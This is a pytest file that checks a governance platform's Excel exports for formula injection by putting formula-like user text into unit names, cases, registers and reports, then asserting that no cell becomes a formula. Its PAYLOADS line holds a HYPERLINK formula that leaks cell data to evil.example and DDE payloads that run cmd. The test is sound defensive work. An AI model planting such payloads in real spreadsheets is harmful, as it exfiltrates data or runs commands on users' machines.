"""Issue 14, finding 10: no .xlsx the platform writes holds a formula made of user text.

Every workbook of the core and of every module is found in the source (``Workbook(``) and
exported here with user text (unit names, case titles and contents, register entries, a
county's report column titles) starting with ``=``, ``+``, ``-`` and ``@``; not one cell of
any sheet is a formula (no ``<f>`` in the sheet XML, no cell of type ``f``), and the text
arrives as typed. Every row goes through the one helper (``core.ledgers.append_row``, in
the SDK ``xlsx_append``): a static check finds no other way of writing a row.
"""
from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from core import jobs
from core.app import pingan
from core.workdays import SHANGHAI
from tests.casework import VISIT, act, register, run_jobs
from tests.conftest import ROOT

PAYLOADS = ('=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0")
SHORT = '=HYPERLINK("x","y")'  # a county's column title (20 characters at most)

# file holding ``Workbook(`` → the downloads that write it (checked against the source below)
EXPORTS = {
    "core/ledgers.py": ["ledger export", "ledger template"],
    "core/org_import.py": ["org import template"],
    "core/registers.py": ["register hello greetings"],  # every declared register (sdk.Register)
    "plugins/keypersons/oversight.py": ["key persons export"],
    "plugins/scoring/acts.py": ["scoring ranking"],
    "plugins/mediation/registers.py": ["register unstable", "register safety", "register public_order"],
    "plugins/mediation/reports.py": ["mediation statistics", "mediation weekly"],
    "plugins/petition/reports.py": ["petition monthly"],
}


def workbook_sources() -> set[str]:
    found = set()
    for folder in ("core", "plugins", "examples"):
        for path in (ROOT / folder).rglob("*.py"):
            if "Workbook(" in path.read_text(encoding="utf-8"):
                found.add(path.relative_to(ROOT).as_posix())
    return found


def test_every_workbook_of_the_source_is_exported_by_this_test_and_rows_go_through_the_helper():
    # issue 14 finding 10: a new .xlsx anywhere fails here until it is exported below
    assert workbook_sources() == set(EXPORTS)
    raw = re.compile(r"\bws\.append\(|\bnotes\.append\(|\.cell\([^)]*value=|\bws\[[^\]]+\]\s*=(?!=)")
    offenders = []
    for folder in ("core", "plugins", "examples"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "openpyxl" not in text:
                continue
            for n, line in enumerate(text.splitlines(), 1):
                if raw.search(line) and not re.search(r"ws\.append\((cells|_header\()", line):  # the helper's own
                    offenders.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert offenders == []


def formulas(data: bytes) -> list[str]:
    """Every formula in the workbook: ``<f>`` elements of its sheets and cells loaded as ``f``."""
    out = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                out += [f"{name}: {m}" for m in re.findall(r"<f[ >][^<]*", z.read(name).decode("utf-8"))]
    wb = load_workbook(io.BytesIO(data))
    out += [f"{ws.title}!{c.coordinate}: {c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]
    return out


def texts(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def test_every_xlsx_of_every_module_writes_formula_like_text_as_text(app, fresh_tenant, login):
    # issue 14 finding 10 (formula injection through the register, the weekly and monthly reports, the ledger)
    county = fresh_tenant
    jobs.bind_state(pingan(app))
    run_jobs(app)
    admin = login(county, "county.admin")
    for module, settings in (("visits", {}), ("hello", {}), ("mediation", {}), ("keypersons", {}), ("scoring", {}),
                             ("petition", {"report_columns": [{"key": "received", "title": SHORT}, {"key": "late"}]})):
        r = admin.put(f"/api/modules/{module}", json={"enabled": True, "settings": settings})
        assert r.status_code == 200, r.get_json()
    for code, name in zip(("T01", "T01D1", "T01D1V1", "T02"), PAYLOADS):
        assert admin.patch(f"/api/org-units/{county.unit(code)}", json={"name": name}).status_code == 200
    today = dt.datetime.now(SHANGHAI).date()
    register(admin, county.unit("T01D1V1"), title=PAYLOADS[0], content=PAYLOADS[2])
    town = login(county, "donghu.admin")
    dispute = town.post("/api/cases", json={
        "case_type": "mediation.dispute", "title": PAYLOADS[1], "org_unit_id": county.unit("T01D1V1"),
        "content": PAYLOADS[0], "persons": [], "details": {"dispute_type": "boundary"}})
    assert dispute.status_code == 201, dispute.get_json()
    case_id = dispute.get_json()["id"]
    assert act(town, case_id, "accept", {"consent": True}).status_code == 200
    assert act(town, case_id, "end", {"outcome": "litigation", "note": PAYLOADS[3]}).status_code == 200
    pet = admin.post("/api/cases", json={
        "case_type": "petition.case", "title": PAYLOADS[2], "org_unit_id": county.unit("T01D1V1"),
        "content": PAYLOADS[1], "persons": [], "details": {"form": "letter", "category": "land"}})
    assert pet.status_code == 201, pet.get_json()
    for kind in ("unstable", "safety", "public_order"):
        r = admin.post(f"/api/mediation/registers/{kind}", json={
            "org_unit_id": county.unit("T01D1V1"), "found_on": today.isoformat(), "description": PAYLOADS[0],
            "measures": PAYLOADS[1], "responsible": PAYLOADS[3]})
        assert r.status_code == 201, r.get_json()

    r = admin.post("/api/keypersons/records", json={"org_unit_id": county.unit("T01D1V1"), "category": "drug",
                                                    "risk_level": "low", "name": PAYLOADS[1][:20]})
    assert r.status_code == 201, r.get_json()
    r = admin.post("/api/scoring/rubrics", json={"level": "township", "year": today.year, "title": PAYLOADS[3][:20],
                                                 "items": [{"category": PAYLOADS[0][:20], "title": "备案", "points": 5,
                                                            "source": "check"}]})
    assert r.status_code == 201, r.get_json()
    r = admin.post("/api/scoring/periods", json={"level": "township", "kind": "year", "year": today.year})
    assert r.status_code == 201, r.get_json()
    period = r.get_json()["id"]
    r = admin.post("/api/hello/greetings", json={"org_unit_id": county.unit("T01D1V1"), "recipient": PAYLOADS[3][:50]})
    assert r.status_code == 201, r.get_json()

    def ledger() -> bytes:
        r = admin.post("/api/ledgers/exports", json={})
        assert r.status_code == 202, r.get_json()
        run_jobs(app)
        job = admin.get(f"/api/jobs/{r.get_json()['id']}").get_json()
        assert job["state"] == "done", job
        return admin.get(job["result_url"]).data

    def get(url: str) -> bytes:
        r = admin.get(url)
        assert r.status_code == 200, (url, r.status_code, r.get_data(as_text=True)[:300])
        return r.data

    month, year = f"{today:%Y-%m}", today.year
    downloads = {
        "ledger export": ledger,
        "ledger template": lambda: get(f"/api/ledgers/templates/{VISIT}"),
        "org import template": lambda: get("/admin/org-units/import/template.xlsx"),
        "register hello greetings": lambda: get("/api/hello/greetings/export"),
        **{f"register {k}": (lambda k=k: get(f"/api/mediation/registers/{k}/export"))
           for k in ("unstable", "safety", "public_order")},
        "mediation statistics": lambda: get(f"/api/mediation/reports/statistics.xlsx?start={year}-01-01"
                                            f"&end={year}-12-31"),
        "mediation weekly": lambda: get(f"/api/mediation/reports/weekly.xlsx?day={today.isoformat()}"),
        "petition monthly": lambda: get(f"/api/petition/reports/monthly.xlsx?month={month}"),
        "key persons export": lambda: get("/api/keypersons/export"),
        "scoring ranking": lambda: get(f"/api/scoring/periods/{period}/ranking.xlsx"),
    }
    assert set(downloads) == {name for names in EXPORTS.values() for name in names}
    seen: set[str] = set()
    for name, fetch in downloads.items():
        data = fetch()
        assert formulas(data) == [], name
        seen |= texts(data)
    # the user text arrived as typed, as text, in the files that carry it
    assert {*PAYLOADS, SHORT} <= seen
